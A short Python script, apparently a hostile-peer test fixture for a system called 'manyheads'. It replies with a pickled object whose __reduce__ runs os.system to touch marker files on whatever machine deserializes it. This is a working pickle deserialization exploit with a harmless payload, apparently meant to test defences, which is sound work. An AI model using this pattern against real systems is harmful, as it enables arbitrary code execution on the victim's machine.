"""Answers with a pickle whose __reduce__ would write a file in whoever loads it."""
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/manyheads_hostile /dev/shm/manyheads_hostile",))


answer_with(frame(pickle.dumps(Payload())))
